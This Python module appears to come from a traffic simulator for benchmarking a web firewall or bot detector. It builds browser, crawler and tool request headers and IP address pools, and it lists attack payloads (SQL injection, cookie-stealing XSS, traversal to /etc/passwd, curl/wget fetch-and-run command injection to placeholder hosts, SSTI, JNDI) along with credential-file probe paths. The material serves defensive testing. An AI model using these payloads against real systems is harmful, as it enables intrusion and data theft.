"""Who the simulated clients are: browsers, crawlers, scripts and tools, their headers and addresses.

Everything a client sends that says who it is lives here: browser profiles with the
header sets and wire order each family really sends for a navigation, a stylesheet, a
script, a ``fetch()`` and a form post; the honest user agents of crawlers, AI and SEO
bots, feed readers and API clients; the header sets of HTTP libraries and scanners;
injection payloads; the benign-but-suspicious text people type into search boxes; and
address pools — residential and data-centre blocks, and the verified crawler ranges
shipped in ``rules/lists/`` (so a "verified" Googlebot really comes from Google's
published ranges, and a fake one never does).

These are written for the simulator and kept apart from the model's training-data
generator (``models/data``), so the benchmark does not test the model on its own
training distribution.
"""

from __future__ import annotations

import bisect
import ipaddress
import random
import socket
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

ROOT = Path(__file__).resolve().parent.parent
LISTS_DIR = ROOT / "rules" / "lists"

Header = tuple[str, str]

LANGUAGES = ("en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
             "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en-US;q=0.8,en;q=0.7", "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7", "en-US,en;q=0.5")
FIREFOX_LANGUAGES = ("en-US,en;q=0.5", "de,en-US;q=0.7,en;q=0.3", "fr,fr-FR;q=0.8,en-US;q=0.5,en;q=0.3", "en-GB,en;q=0.5")


# ------------------------------------------------------------------------------------------ browsers

@dataclass(frozen=True)
class Browser:
    """One browser install: user agent, family, platform, language; builds its own request heads."""

    family: str  # chrome, edge, firefox, safari
    user_agent: str
    platform: str  # the sec-ch-ua-platform value without quotes ("" for non-Chromium)
    mobile: bool
    major: int
    language: str

    @property
    def chromium(self) -> bool:
        return self.family in ("chrome", "edge")

    def _client_hints(self) -> list[Header]:
        brand = "Microsoft Edge" if self.family == "edge" else "Google Chrome"
        grease = ('"Not/A)Brand";v="8"', '"Not)A;Brand";v="99"', '"Not_A Brand";v="24"', '"Not A(Brand";v="99"')[self.major % 4]
        ua = f'{grease}, "Chromium";v="{self.major}", "{brand}";v="{self.major}"'
        return [("sec-ch-ua", ua), ("sec-ch-ua-mobile", "?1" if self.mobile else "?0"), ("sec-ch-ua-platform", f'"{self.platform}"')]

    def navigate(self, host: str, *, referer: str = "", site: str = "none", cookie: str = "", user_activated: bool = True) -> list[Header]:
        """A top-level page load (typed, followed link, or search result)."""
        if self.chromium:
            h: list[Header] = [("Host", host), ("Connection", "keep-alive"), *self._client_hints(), ("Upgrade-Insecure-Requests", "1"),
                               ("User-Agent", self.user_agent),
                               ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
                                          "application/signed-exchange;v=b3;q=0.7"),
                               ("Sec-Fetch-Site", site), ("Sec-Fetch-Mode", "navigate")]
            if user_activated:
                h.append(("Sec-Fetch-User", "?1"))
            h.append(("Sec-Fetch-Dest", "document"))
            if referer:
                h.append(("Referer", referer))
            h += [("Accept-Encoding", "gzip, deflate, br, zstd"), ("Accept-Language", self.language)]
            if cookie:
                h.append(("Cookie", cookie))
            return h
        if self.family == "firefox":
            h = [("Host", host), ("User-Agent", self.user_agent),
                 ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/png,image/svg+xml,*/*;q=0.8"),
                 ("Accept-Language", self.language), ("Accept-Encoding", "gzip, deflate, br, zstd")]
            if referer:
                h.append(("Referer", referer))
            h.append(("Connection", "keep-alive"))
            if cookie:
                h.append(("Cookie", cookie))
            h += [("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Site", site)]
            if user_activated:
                h.append(("Sec-Fetch-User", "?1"))
            h.append(("Priority", "u=0, i"))
            return h
        h = [("Host", host), ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Sec-Fetch-Site", site)]
        if cookie:
            h.append(("Cookie", cookie))
        h += [("Sec-Fetch-Dest", "document"), ("Accept-Language", self.language), ("Sec-Fetch-Mode", "navigate"),
              ("User-Agent", self.user_agent)]
        if referer:
            h.append(("Referer", referer))
        h += [("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive")]
        return h

    def subresource(self, host: str, dest: str, *, referer: str, cookie: str = "") -> list[Header]:
        """A stylesheet (``dest="style"``), script (``"script"``) or image (``"image"``) the page references."""
        accept = {"style": "text/css,*/*;q=0.1", "script": "*/*",
                  "image": "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"}[dest]
        if self.chromium:
            h: list[Header] = [("Host", host), ("Connection", "keep-alive"), *self._client_hints()[:2], ("User-Agent", self.user_agent),
                               self._client_hints()[2], ("Accept", accept), ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "no-cors"),
                               ("Sec-Fetch-Dest", dest), ("Referer", referer), ("Accept-Encoding", "gzip, deflate, br, zstd"),
                               ("Accept-Language", self.language)]
            if cookie:
                h.append(("Cookie", cookie))
            return h
        if self.family == "firefox":
            h = [("Host", host), ("User-Agent", self.user_agent), ("Accept", accept), ("Accept-Language", self.language),
                 ("Accept-Encoding", "gzip, deflate, br, zstd"), ("Referer", referer), ("Connection", "keep-alive")]
            if cookie:
                h.append(("Cookie", cookie))
            h += [("Sec-Fetch-Dest", dest), ("Sec-Fetch-Mode", "no-cors"), ("Sec-Fetch-Site", "same-origin"), ("Priority", "u=2")]
            return h
        h = [("Host", host), ("Accept", accept if dest != "script" else "*/*"), ("Sec-Fetch-Site", "same-origin")]
        if cookie:
            h.append(("Cookie", cookie))
        h += [("Sec-Fetch-Dest", dest), ("Accept-Language", self.language), ("Sec-Fetch-Mode", "no-cors"), ("User-Agent", self.user_agent),
              ("Referer", referer), ("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive")]
        return h

    def fetch(self, host: str, *, referer: str, cookie: str = "", accept: str = "application/json") -> list[Header]:
        """A same-origin ``fetch()`` from the page's script (the site.js XHR)."""
        if self.chromium:
            h: list[Header] = [("Host", host), ("Connection", "keep-alive"), *self._client_hints()[:2], ("User-Agent", self.user_agent),
                               ("Accept", accept), self._client_hints()[2], ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "cors"),
                               ("Sec-Fetch-Dest", "empty"), ("Referer", referer), ("Accept-Encoding", "gzip, deflate, br, zstd"),
                               ("Accept-Language", self.language)]
            if cookie:
                h.append(("Cookie", cookie))
            return h
        if self.family == "firefox":
            h = [("Host", host), ("User-Agent", self.user_agent), ("Accept", accept), ("Accept-Language", self.language),
                 ("Accept-Encoding", "gzip, deflate, br, zstd"), ("Referer", referer), ("Connection", "keep-alive")]
            if cookie:
                h.append(("Cookie", cookie))
            h += [("Sec-Fetch-Dest", "empty"), ("Sec-Fetch-Mode", "cors"), ("Sec-Fetch-Site", "same-origin"), ("Priority", "u=4")]
            return h
        h = [("Host", host), ("Accept", accept), ("Sec-Fetch-Site", "same-origin")]
        if cookie:
            h.append(("Cookie", cookie))
        h += [("Sec-Fetch-Dest", "empty"), ("Accept-Language", self.language), ("Sec-Fetch-Mode", "cors"), ("User-Agent", self.user_agent),
              ("Referer", referer), ("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive")]
        return h

    def form(self, host: str, *, origin: str, referer: str, body_length: int, cookie: str = "") -> list[Header]:
        """A form submitted with POST (application/x-www-form-urlencoded)."""
        if self.chromium:
            h: list[Header] = [("Host", host), ("Connection", "keep-alive"), ("Content-Length", str(body_length)),
                               ("Cache-Control", "max-age=0"), *self._client_hints(), ("Origin", origin),
                               ("Content-Type", "application/x-www-form-urlencoded"), ("Upgrade-Insecure-Requests", "1"),
                               ("User-Agent", self.user_agent),
                               ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
                                          "application/signed-exchange;v=b3;q=0.7"),
                               ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-User", "?1"),
                               ("Sec-Fetch-Dest", "document"), ("Referer", referer), ("Accept-Encoding", "gzip, deflate, br, zstd"),
                               ("Accept-Language", self.language)]
            if cookie:
                h.append(("Cookie", cookie))
            return h
        if self.family == "firefox":
            h = [("Host", host), ("User-Agent", self.user_agent),
                 ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/png,image/svg+xml,*/*;q=0.8"),
                 ("Accept-Language", self.language), ("Accept-Encoding", "gzip, deflate, br, zstd"),
                 ("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", str(body_length)), ("Origin", origin),
                 ("Connection", "keep-alive"), ("Referer", referer)]
            if cookie:
                h.append(("Cookie", cookie))
            h += [("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"),
                  ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-User", "?1"), ("Priority", "u=0, i")]
            return h
        h = [("Host", host), ("Content-Type", "application/x-www-form-urlencoded"), ("Origin", origin),
             ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Sec-Fetch-Site", "same-origin")]
        if cookie:
            h.append(("Cookie", cookie))
        h += [("Sec-Fetch-Dest", "document"), ("Accept-Language", self.language), ("Sec-Fetch-Mode", "navigate"),
              ("User-Agent", self.user_agent), ("Referer", referer), ("Content-Length", str(body_length)),
              ("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive")]
        return h


def random_browser(rng: random.Random) -> Browser:
    """A browser drawn roughly by desktop/mobile market share."""
    r = rng.random()
    if r < 0.40:
        major = rng.randint(124, 131)
        platform, os_part = rng.choice((("Windows", "Windows NT 10.0; Win64; x64"), ("macOS", "Macintosh; Intel Mac OS X 10_15_7"),
                                        ("Linux", "X11; Linux x86_64")))
        ua = f"Mozilla/5.0 ({os_part}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{major}.0.0.0 Safari/537.36"
        return Browser("chrome", ua, platform, False, major, rng.choice(LANGUAGES))
    if r < 0.55:
        major = rng.randint(124, 131)
        ua = f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{major}.0.0.0 Mobile Safari/537.36"
        return Browser("chrome", ua, "Android", True, major, rng.choice(LANGUAGES))
    if r < 0.65:
        major = rng.randint(124, 131)
        ua = (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{major}.0.0.0 "
              f"Safari/537.36 Edg/{major}.0.0.0")
        return Browser("edge", ua, "Windows", False, major, rng.choice(LANGUAGES))
    if r < 0.77:
        major = rng.randint(125, 133)
        os_part = rng.choice(("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "X11; Ubuntu; Linux x86_64",
                              "Macintosh; Intel Mac OS X 10.15"))
        ua = f"Mozilla/5.0 ({os_part}; rv:{major}.0) Gecko/20100101 Firefox/{major}.0"
        return Browser("firefox", ua, "", False, major, rng.choice(FIREFOX_LANGUAGES))
    minor = rng.randint(3, 6)
    if r < 0.87:
        ua = f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{minor} Safari/605.1.15"
        return Browser("safari", ua, "", False, 17, rng.choice(LANGUAGES))
    ua = (f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_{minor} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          f"Version/17.{minor} Mobile/15E148 Safari/604.1")
    return Browser("safari", ua, "", True, 17, rng.choice(LANGUAGES))


# ------------------------------------------------------------------------------------------ bots and tools

GOOGLEBOT_AGENTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.6613.137 "
    "Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
BINGBOT_AGENTS = (
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 "
    "Safari/537.36",
)
# crawler name -> (list file in rules/lists, user agents)
VERIFIED_CRAWLERS: dict[str, tuple[str, tuple[str, ...]]] = {
    "googlebot": ("googlebot", GOOGLEBOT_AGENTS),
    "bingbot": ("bingbot", BINGBOT_AGENTS),
}

AI_AGENTS = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; "
    "spider-feedback@bytedance.com)",
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) "
    "Chrome/119.0.6045.214 Safari/537.36",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
)
SEO_AGENTS = (
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
    "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
)
FEED_AGENTS = (
    "FreshRSS/1.24.3 (Linux; https://freshrss.org)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; )",
    "NetNewsWire (RSS Reader; https://netnewswire.com/)",
    "Miniflux/2.1.4 (https://miniflux.app)",
    "Tiny Tiny RSS/24.05 (https://tt-rss.org/)",
)
SCANNER_AGENTS = (
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000583)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
)
INJECTION_AGENTS = (
    "sqlmap/1.8.6#stable (https://sqlmap.org)",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
)
# libraries and their header sets (name -> user agent); the order of _library_head is theirs
LIBRARIES = {
    "requests": "python-requests/2.32.3",
    "aiohttp": "Python/3.11 aiohttp/3.9.5",
    "go": "Go-http-client/1.1",
    "curl": "curl/8.5.0",
    "scrapy": "Scrapy/2.11.2 (+https://scrapy.org)",
    "axios": "axios/1.7.2",
    "httpx": "python-httpx/0.27.2",
    "okhttp": "okhttp/4.12.0",
}


def library_head(library: str, host: str, *, user_agent: str | None = None, accept: str | None = None) -> list[Header]:
    """The head an HTTP library sends by default (``user_agent`` replaces its own, as spoofing scripts do)."""
    ua = user_agent or LIBRARIES[library]
    if library in ("requests", "httpx"):
        return [("Host", host), ("User-Agent", ua), ("Accept-Encoding", "gzip, deflate"), ("Accept", accept or "*/*"),
                ("Connection", "keep-alive")]
    if library == "aiohttp":
        return [("Host", host), ("Accept", accept or "*/*"), ("Accept-Encoding", "gzip, deflate"), ("User-Agent", ua)]
    if library == "go":
        return [("Host", host), ("User-Agent", ua), *([("Accept", accept)] if accept else []), ("Accept-Encoding", "gzip")]
    if library == "curl":
        return [("Host", host), ("User-Agent", ua), ("Accept", accept or "*/*")]
    if library == "scrapy":
        return [("Host", host), ("Accept", accept or "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                ("Accept-Language", "en"), ("User-Agent", ua), ("Accept-Encoding", "gzip, deflate, br")]
    if library == "axios":
        return [("Host", host), ("Accept", accept or "application/json, text/plain, */*"), ("User-Agent", ua),
                ("Accept-Encoding", "gzip, compress, deflate, br"), ("Connection", "keep-alive")]
    if library == "okhttp":
        return [("Host", host), ("Connection", "Keep-Alive"), ("Accept-Encoding", "gzip"), ("User-Agent", ua),
                *([("Accept", accept)] if accept else [])]
    raise KeyError(library)


def crawler_head(user_agent: str, host: str, *, from_header: str = "") -> list[Header]:
    """A search or AI crawler's page request (they announce themselves and send few headers)."""
    h: list[Header] = [("Host", host), ("Connection", "keep-alive"),
                       ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")]
    if from_header:
        h.append(("From", from_header))
    h += [("User-Agent", user_agent), ("Accept-Encoding", "gzip, deflate, br")]
    return h


def feed_head(user_agent: str, host: str, *, etag: str = "") -> list[Header]:
    """A feed reader polling a feed (conditional when it has an ETag)."""
    h: list[Header] = [("Host", host), ("User-Agent", user_agent),
                       ("Accept", "application/rss+xml, application/atom+xml, application/xml;q=0.9, */*;q=0.8"),
                       ("Accept-Encoding", "gzip, deflate")]
    if etag:
        h.append(("If-None-Match", etag))
    return h


# ------------------------------------------------------------------------------------------ payloads and text

SQLI = ("' OR '1'='1", "1' UNION SELECT NULL,username,password FROM users-- -", "1 AND SLEEP(5)", "') OR 1=1#",
        "1;DROP TABLE users--", "admin'--", "1' AND extractvalue(1,concat(0x7e,version()))--", "-1 UNION ALL SELECT @@version,2,3")
XSS = ("<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=confirm(1)>", "javascript:alert(1)",
       "'-alert(1)-'", "<iframe src=javascript:alert(1)>")
TRAVERSAL = ("../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
             "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts")
CMDI = (";cat /etc/passwd", "| id", "`uname -a`", "$(curl -s http://203.0.113.9/x.sh|sh)", "&& wget http://198.51.100.7/b -O- | sh")
SSTI = ("{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= 7*7 %>")
JNDI = ("${jndi:ldap://198.51.100.23:1389/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.5/x}")
PAYLOADS: dict[str, tuple[str, ...]] = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "cmdi": CMDI, "ssti": SSTI, "jndi": JNDI}

SCANNER_PATHS = (
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/index.php", "/server-status",
    "/phpinfo.php", "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/boaform/admin/formLogin",
    "/.DS_Store", "/config.json", "/backup.zip", "/backup.sql", "/db.sql", "/admin/", "/administrator/", "/login.action",
    "/solr/admin/info/system", "/actuator/env", "/api/v1/users", "/console/", "/owa/auth/logon.aspx", "/manager/html",
    "/jenkins/script", "/HNAP1/", "/debug/default/view", "/telescope/requests", "/_profiler/phpinfo", "/.svn/entries", "/web.config",
    "/config.php.bak", "/id_rsa", "/dump.sql", "/storage/logs/laravel.log", "/sftp-config.json", "/.vscode/sftp.json",
    "/remote/login", "/+CSCOE+/logon.html", "/geoserver/web/", "/.well-known/security.txt", "/robots.txt",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
)

# What people type that looks like an attack to a naive filter (the hard negatives of a WAF).
BENIGN_SEARCHES = (
    "o'reilly desk lamp", "walnut desk \"120 cm\"", "order by price", "select lamp or stool", "<b>sale</b>", "drop-leaf table",
    "100% oak; no veneer", "rock & roll poster", "C:\\ desk setup", "SELECT-ing the right lamp", "lamp --dimmable", "desk 1=1 offer",
    "script for assembling stool", "union jack cushion", "1/2 price hooks", "cat's bed", "\"linen lamp\" -shade", "what's ../ in a path",
    "table <60cm", "oak & walnut", "lamp", "desk", "hook", "cork board", "stool",
)
SEARCH_WORDS = ("lamp", "desk", "stool", "hook", "board", "oak", "walnut", "linen", "brass", "cork", "chair", "shelf", "rug")


def search_target(text: str) -> str:
    """``/search?q=...`` encoded the way a browser encodes a form field."""
    return "/search?q=" + quote_plus(text)


def injection_target(kind: str, payload: str, rng: random.Random) -> str:
    """A GET target carrying ``payload`` in a query parameter or the path, encoded as tools send it."""
    if kind == "traversal":
        return rng.choice(("/static/", "/download?file=", "/shop/")) + (payload if "%" in payload else quote(payload, safe="/.\\"))
    param = rng.choice(("q", "id", "page", "sort"))
    base = {"q": "/search", "id": "/shop", "page": "/forum", "sort": "/shop"}[param]
    return f"{base}?{param}={quote(payload, safe='')}"


# ------------------------------------------------------------------------------------------ addresses

RESIDENTIAL_V4 = ("81.0.0.0/8", "86.0.0.0/8", "92.0.0.0/8", "176.0.0.0/8", "188.0.0.0/8", "24.0.0.0/8", "73.0.0.0/8", "98.0.0.0/8",
                  "109.0.0.0/8", "151.0.0.0/8")
RESIDENTIAL_V6 = ("2a02:8100::/24", "2a01:cb00::/24", "2600:1700::/24", "2a00:23c0::/24")
DATACENTER_V4 = ("45.0.0.0/8", "138.68.0.0/16", "159.65.0.0/16", "167.99.0.0/16", "178.62.0.0/16", "185.0.0.0/8", "193.0.0.0/8",
                 "5.188.0.0/16", "89.248.0.0/16", "194.26.0.0/16", "141.98.0.0/16")


def read_list(name: str, lists_dir: Path = LISTS_DIR) -> list[ipaddress.IPv4Network | ipaddress.IPv6Network]:
    """The networks of a named IP list in ``rules/lists`` (``NAME.txt``; # comments)."""
    out = []
    for line in (lists_dir / f"{name}.txt").read_text(encoding="utf-8").splitlines():
        line = line.split("#", 1)[0].strip()
        if line:
            out.append(ipaddress.ip_network(line, strict=False))
    return out


class AddressPool:
    """Draws addresses from CIDR blocks, never from the excluded networks (the verified crawler ranges).

    Blocks and exclusions are kept as integer ranges, so a draw costs a couple of
    microseconds (the flood draws one address per request).
    """

    def __init__(self, blocks: Iterable[str | ipaddress.IPv4Network | ipaddress.IPv6Network], rng: random.Random,
                 exclude: Sequence[ipaddress.IPv4Network | ipaddress.IPv6Network] = ()) -> None:
        nets = [ipaddress.ip_network(b, strict=False) if isinstance(b, str) else b for b in blocks]
        if not nets:
            raise ValueError("an address pool needs at least one block")
        self.rng = rng
        self._blocks = [(n.version, int(n.network_address), n.num_addresses) for n in nets]
        self._excluded: dict[int, tuple[list[int], list[int]]] = {}
        for version in (4, 6):
            merged: list[list[int]] = []  # disjoint [first, last] ranges, sorted
            for first, last in sorted((int(n.network_address), int(n.broadcast_address)) for n in exclude if n.version == version):
                if merged and first <= merged[-1][1] + 1:
                    merged[-1][1] = max(merged[-1][1], last)
                else:
                    merged.append([first, last])
            self._excluded[version] = ([a for a, _ in merged], [b for _, b in merged])

    def excluded(self, version: int, value: int) -> bool:
        """Is the address (as an integer) inside an excluded network?"""
        starts, ends = self._excluded[version]
        i = bisect.bisect_right(starts, value) - 1
        return i >= 0 and value <= ends[i]

    def draw(self) -> str:
        rng = self.rng
        for _ in range(64):
            version, base, size = rng.choice(self._blocks)
            value = base + (rng.randrange(1, size - 1) if size > 2 else 0)
            if not self.excluded(version, value):
                if version == 4:
                    return socket.inet_ntop(socket.AF_INET, value.to_bytes(4, "big"))
                return socket.inet_ntop(socket.AF_INET6, value.to_bytes(16, "big"))
        raise RuntimeError("could not draw an address outside the excluded ranges")


@dataclass
class AddressBook:
    """The address pools of one simulation run."""

    residential: AddressPool
    datacenter: AddressPool
    verified: dict[str, AddressPool]

    @classmethod
    def build(cls, rng: random.Random, lists_dir: Path = LISTS_DIR, ipv6_share: float = 0.15) -> AddressBook:
        verified_nets = {name: read_list(list_name, lists_dir) for name, (list_name, _) in VERIFIED_CRAWLERS.items()}
        exclude = [n for nets in verified_nets.values() for n in nets]
        for extra in ("applebot", "duckduckbot"):
            if (lists_dir / f"{extra}.txt").is_file():
                exclude += read_list(extra, lists_dir)
        v6_weight = max(1, round(len(RESIDENTIAL_V4) * ipv6_share / max(1e-9, 1 - ipv6_share)))
        residential = AddressPool([*RESIDENTIAL_V4, *(RESIDENTIAL_V6 * v6_weight)[:v6_weight]], rng, exclude)
        return cls(residential=residential, datacenter=AddressPool(DATACENTER_V4, rng, exclude),
                   verified={name: AddressPool(nets, rng) for name, nets in verified_nets.items()})
